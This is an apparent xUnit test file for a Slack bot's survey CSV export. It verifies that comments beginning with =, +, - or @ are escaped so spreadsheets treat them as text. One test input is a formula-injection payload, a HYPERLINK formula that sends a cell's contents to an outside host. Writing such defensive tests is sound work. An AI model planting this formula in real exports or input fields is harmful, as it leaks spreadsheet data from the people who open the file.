using System.Globalization;
using CsvHelper;
using Microsoft.Extensions.DependencyInjection;
using SlackChampionBot.Features.Pulse;
using SlackChampionBot.Tests.Support;

namespace SlackChampionBot.Tests.Features.Pulse;

/// <summary>The CSV export as a spreadsheet opens it: text that looks like a formula stays text, numbers stay numbers.</summary>
public sealed class PulseExportTests
{
    private const string Hyperlink = "=HYPERLINK(\"https://example.org/?\"&B2,\"x\")";

    [Fact]
    public async Task Export_CommentsThatLookLikeFormulas_OpenAsText_AndANegativeChangeStaysANumber()
    {
        await using var world = new PulseTestWorld();
        var people = world.AddPeople(6);
        var previous = (await world.Open())!;
        await world.Tick();
        await world.AnswerAll(previous.Id, people, 0, 5);

        await world.CloseByTime();
        var survey = (await world.Open())!;
        await world.Tick();
        string[] comments = [Hyperlink, "+1 for the new rota", "-ish, could be better", "@here more coffee", "=SUM(A1:A9)", "plain and fine"];
        for (var i = 0; i < people.Count; i++)
        {
            await world.Click(people[i], survey.Id, 0, 4);
            await world.InScope(sp => sp.GetRequiredService<PulseService>().Comment(PulseTestWorld.TeamId, people[i], null, survey.Id, comments[i], CancellationToken.None));
        }

        await world.CloseByTime();
        await world.Command(PulseTestWorld.Hr, "export");
        await world.RunBackgroundWork();

        var rows = CsvRows.Read(Assert.Single(world.Uploads).Content);
        Assert.Equal(["section", "team", "question", "n", "value", "favourable_percent", "change", "detail"], rows[0]);
        var cells = rows.Where(r => r[0] == "comment").Select(r => r[7]).ToList();
        Assert.Contains("'" + Hyperlink, cells);
        Assert.Contains("'+1 for the new rota", cells);
        Assert.Contains("'-ish, could be better", cells);
        Assert.Contains("'@here more coffee", cells);
        Assert.Contains("'=SUM(A1:A9)", cells);
        Assert.Contains("plain and fine", cells);
        Assert.All(rows.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && "=+@\t\r".Contains(cell[0], StringComparison.Ordinal), $"a cell starts like a formula: {cell}"));

        var question = Assert.Single(rows, r => r[0] == "question");
        Assert.Equal(("6", "4", "-1"), (question[3], question[4], question[6])); // numbers, not escaped text
    }

    [Fact]
    public void Csv_TheSharedOptions_EscapeFormulaLikeText()
    {
        // The one configuration every export uses (the star-ledger export is to reuse it).
        var options = SlackChampionBot.Rendering.Csv.Options();
        Assert.Equal(CsvInjection.Escape, options.Injection);
        Assert.Equal(CultureInfo.InvariantCulture, options.FormatProvider);
    }
}
